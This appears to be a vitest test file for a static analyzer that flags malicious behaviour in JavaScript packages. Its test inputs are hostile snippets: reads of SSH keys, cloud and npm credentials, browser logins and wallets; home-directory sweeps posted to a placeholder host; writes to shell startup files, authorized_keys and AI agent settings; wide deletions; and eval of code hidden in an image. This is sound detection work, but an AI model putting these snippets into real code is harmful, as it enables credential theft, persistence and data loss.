import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const head = `const fs = require("fs"), path = require("path"), os = require("os");`;

describe("files that are worth something", () => {
  test.each([
    [
      `fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")`,
      "src.file.secret [.npmrc] ~/.npmrc",
    ],
    [`fs.readFileSync(os.homedir() + "/.ssh/id_rsa")`, "src.file.secret [.ssh] ~/.ssh/id_rsa"],
    [
      `fs.readFileSync(process.env.HOME + "/.aws/credentials")`,
      "src.file.secret [.aws] ~/.aws/credentials",
    ],
    [
      `fs.readFileSync((process.env.HOME || process.env.USERPROFILE) + "/.npmrc")`,
      "src.file.secret [.npmrc] ~/.npmrc",
    ],
    [
      `fs.promises.readFile(path.resolve(os.homedir(), ".ssh", "id_rsa"))`,
      "src.file.secret [.ssh] ~/.ssh/id_rsa",
    ],
    [`fs.createReadStream(path.join(os.homedir(), ".docker/config.json"))`, "src.file.secret"],
    [
      `require("fs-extra").readJsonSync(path.join(os.homedir(), ".docker/config.json"))`,
      "src.file.secret",
    ],
    [`require("fs/promises").readFile(path.join(os.homedir(), ".netrc"))`, "src.file.secret"],
    [`Bun.file(path.join(os.homedir(), ".npmrc"))`, "src.file.secret"],
    [
      `for (const f of [".npmrc", ".ssh/id_rsa"]) { fs.readFileSync(path.join(os.homedir(), f)); }`,
      "src.file.secret [.ssh] ~/.ssh/id_rsa",
    ],
    [
      `[".npmrc", ".pypirc"].map((f) => path.join(os.homedir(), f)).forEach((p) => { try { fs.readFileSync(p) } catch {} });`,
      "src.file.secret [.pypirc] ~/.pypirc",
    ],
    [`fs.readFileSync(path.join(process.cwd(), ".env"))`, "src.file.secret [.env] <project>/.env"],
    [`fs.readFileSync(".env")`, "src.file.secret [.env] <project>/.env"],
    [`fs.readFileSync("/etc/shadow")`, "src.file.secret"],
    [`fs.readFileSync(path.join(os.homedir(), ".claude.json"))`, "src.agentlogin [claude]"],
    [`fs.existsSync(path.join(os.homedir(), ".claude"))`, "src.agentlogin [claude]"],
    [
      `fs.readFileSync(path.join(os.homedir(), "AppData/Local/Google/Chrome/User Data/Default/Login Data"))`,
      "src.browserstore",
    ],
    [`fs.readFileSync(path.join(os.homedir(), ".config/solana/id.json"))`, "src.wallet"],
    [`fs.readFileSync("/proc/" + pid + "/mem")`, "src.procmem [mem]"],
    [`fs.readFileSync("/etc/machine-id")`, "src.host [machine-id]"],
    [`fs.readFileSync(Buffer.from("L2V0Yy9zaGFkb3c=", "base64").toString())`, "src.file.secret"],
  ])("%s", (code, expected) => {
    expect(foundIn(`${head} ${code}`).atoms).toContainEqual(expect.stringContaining(expected));
  });

  test.each([
    `fs.readFileSync(path.join(__dirname, ".npmrc"))`,
    `fs.readFileSync(path.join(__dirname, "src/npmrc-parser.js"))`,
    `fs.readFileSync(path.join(os.homedir(), ".config", "tool", "config.json"))`,
    `fs.readFileSync(path.join(process.cwd(), "package.json"))`,
    `module.exports = (dir) => fs.readFileSync(path.join(dir, ".npmrc"))`,
    `module.exports = (file) => fs.readFileSync(file)`,
    `fs.existsSync(path.join(os.homedir(), ".npmrc"))`,
    `const names = [".npmrc", ".ssh/id_rsa"]; console.log(names)`,
    `fs.readFileSync(path.join(process.cwd(), ".env.example"))`,
  ])("nothing of worth: %s", (code) => {
    const kinds = foundIn(`${head} ${code}`).kinds;
    expect(kinds.filter((kind) => /^src\.(?!host|ownfile)/.test(kind))).toEqual([]);
  });

  test.each([
    `function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); if (fs.statSync(p).isDirectory()) walk(p); else if (/\\.(txt|key)$/.test(f)) send(fs.readFileSync(p)); } } walk(os.homedir());`,
    `for (const f of fs.readdirSync(os.homedir(), { recursive: true })) send(fs.readFileSync(path.join(os.homedir(), f)));`,
    `require("glob").sync("**/*.pem", { cwd: os.homedir() }).forEach((f) => send(fs.readFileSync(f)));`,
  ])("a sweep: %s", (code) => {
    expect(
      foundIn(
        `${head} const send = (x) => fetch("https://a.test", { method: "POST", body: x }); ${code}`,
      ).flows,
    ).toContain("src.file.sweep -> snk.net:body");
  });

  test.each([
    `for (const f of fs.readdirSync(__dirname)) fs.readFileSync(path.join(__dirname, f));`,
    `require("glob").sync("**/*.js").forEach((f) => fs.readFileSync(f));`,
    `for (const f of fs.readdirSync(process.cwd())) fs.readFileSync(path.join(process.cwd(), f));`,
    `for (const f of fs.readdirSync(path.join(os.homedir(), ".cache/tool"))) fs.readFileSync(path.join(os.homedir(), ".cache/tool", f));`,
    `module.exports = (dir) => { for (const f of fs.readdirSync(dir)) fs.readFileSync(path.join(dir, f)); }`,
  ])("no sweep: %s", (code) => {
    expect(foundIn(`${head} ${code}`).kinds).not.toContain("src.file.sweep");
  });
});

describe("writes", () => {
  test.each([
    [`fs.writeFileSync(path.join(__dirname, "a.txt"), "x")`, "own"],
    [`fs.writeFileSync("dist/a.txt", "x")`, "project"],
    [`fs.writeFileSync(path.join(process.cwd(), "a.txt"), "x")`, "project"],
    [`fs.writeFileSync(path.join(os.homedir(), ".cache/tool/x"), "x")`, "home"],
    [`fs.writeFileSync(path.join(os.tmpdir(), "x"), "x")`, "temp"],
    [`fs.writeFileSync("/usr/local/bin/x", "x")`, "system"],
    [`fs.writeFileSync(path.join(os.homedir(), ".bashrc"), "x")`, "control"],
    [`fs.appendFileSync(path.join(os.homedir(), ".ssh/authorized_keys"), "x")`, "control"],
    [`fs.writeFileSync(path.join(process.cwd(), ".git/hooks/pre-commit"), "x")`, "control"],
    [`fs.writeFileSync(".github/workflows/x.yml", "x")`, "control"],
    [`fs.writeFileSync(path.join(process.cwd(), "CLAUDE.md"), "x")`, "control agent"],
    [`fs.mkdirSync(".claude"); fs.writeFileSync(".claude/settings.json", "x")`, "control agent"],
    [`fs.createWriteStream(path.join(os.homedir(), ".npmrc")).write("x")`, "control"],
    [`fs.copyFileSync(path.join(__dirname, "x"), path.join(os.homedir(), ".zshrc"))`, "control"],
    [`Bun.write(path.join(os.homedir(), ".zshrc"), "x")`, "control"],
    [`module.exports = (p) => fs.writeFileSync(p, "x")`, "unknown"],
  ])("%s writes to %s", (code, target) => {
    const writes = foundIn(`${head} ${code}`).atoms.filter((atom) => atom.startsWith("snk.write"));
    expect(writes).toContainEqual(expect.stringMatching(new RegExp(` ${target}$`)));
  });

  test("a package's own agent file is its own", () => {
    const writes = foundIn(
      `${head} fs.writeFileSync(path.join(__dirname, "CLAUDE.md"), "x")`,
    ).atoms;
    expect(writes).toContain("snk.write <package>/CLAUDE.md own");
  });

  test("what is fetched and written is traced", () => {
    const found = foundIn(
      `${head} require("https").get("https://a.test/x", (r) => r.pipe(fs.createWriteStream(path.join(os.tmpdir(), "x"))));`,
    );
    expect(found.flows).toContain("src.remote -> snk.write:data");
  });
});

describe("removal", () => {
  test.each([
    `fs.rmSync(os.homedir(), { recursive: true, force: true })`,
    `fs.rmSync("/", { recursive: true, force: true })`,
    `fs.rmSync(path.join(process.cwd(), ".."), { recursive: true })`,
    `fs.rmSync(path.join(__dirname, "../.."), { recursive: true })`,
    `require("rimraf").sync(os.homedir() + "/*")`,
    `require("fs-extra").removeSync(path.join(os.homedir(), "Documents"))`,
    `for (const f of fs.readdirSync(os.homedir())) fs.unlinkSync(path.join(os.homedir(), f))`,
  ])("reaches far: %s", (code) => {
    expect(foundIn(`${head} ${code}`).kinds).toContain("snk.delete.wide");
  });

  test.each([
    `fs.rmSync(path.join(__dirname, "build"), { recursive: true })`,
    `fs.rmSync("dist", { recursive: true })`,
    `fs.rmSync(path.join(os.tmpdir(), "x"), { recursive: true })`,
    `fs.rmSync(path.join(os.homedir(), ".cache", "tool"), { recursive: true })`,
    `module.exports = (dir) => require("rimraf").sync(dir)`,
    `fs.unlinkSync(path.join(os.homedir(), ".toolrc"))`,
  ])("stays at home: %s", (code) => {
    expect(foundIn(`${head} ${code}`).kinds).not.toContain("snk.delete.wide");
  });

  test("of itself", () => {
    expect(foundIn(`${head} fs.unlinkSync(__filename)`).kinds).toContain("ctx.selfclean");
    expect(
      foundIn(`${head} fs.writeFileSync(path.join(__dirname, "package.json"), "{}")`).kinds,
    ).toContain("ctx.selfclean");
    expect(
      foundIn(`${head} fs.unlinkSync(path.join(__dirname, "download.tgz"))`).kinds,
    ).not.toContain("ctx.selfclean");
    expect(
      foundIn(`${head} fs.writeFileSync(path.join(process.cwd(), "package.json"), "{}")`).kinds,
    ).not.toContain("ctx.selfclean");
  });
});

test("own files that are no code are a source, and code of them runs", () => {
  const payload = `require("child_process").exec("whoami")`;
  const found = foundIn(`${head} eval(fs.readFileSync(path.join(__dirname, "logo.png"), "utf8"))`, {
    "logo.png": payload,
  });
  expect(found.flows).toContain("src.ownfile -> snk.code:code");
  expect(found.kinds).toContain("snk.proc");
  const read = foundIn(
    `${head} JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8")).version`,
  );
  expect(read.kinds).toEqual([]);
});
